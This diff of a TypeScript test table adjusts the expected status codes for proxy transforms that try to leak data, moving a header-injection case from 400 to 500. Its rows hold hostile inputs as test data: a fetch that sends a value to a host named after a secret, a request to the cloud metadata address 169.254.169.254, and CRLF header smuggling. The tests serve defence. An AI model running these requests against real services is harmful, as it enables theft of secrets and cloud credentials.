@@ -46,7 +46,7 @@ const leakingProxies = (at: string): [name: string, status: number, transforms: 
     ['returns too much of it', 500, code('return { body: n.repeat(100_000) }')],
     ['asks a host that is named after it', 500, code("await fetch('https://' + n + '.invalid/?k=' + k)")],
     ['asks an address with it', 500, code("await fetch('https://169.254.169.254/' + n)")],
-    ['sends a header that is none', 400, code("return { headers: { a: n + '\\r\\n' + c } }")],
+    ['sends a header that is none', 500, code("return { headers: { a: n + '\\r\\n' + c } }")],
     ['makes a card that cannot be', 400, { request_transforms: [{ type: 'tokenize', options: { token: card } }] }],
     ['makes metadata that cannot be', 400, { request_transforms: [{ type: 'tokenize', options: { token: note } }] }],
     ['masks what is repeated', 200, { response_transforms: [mask] }],
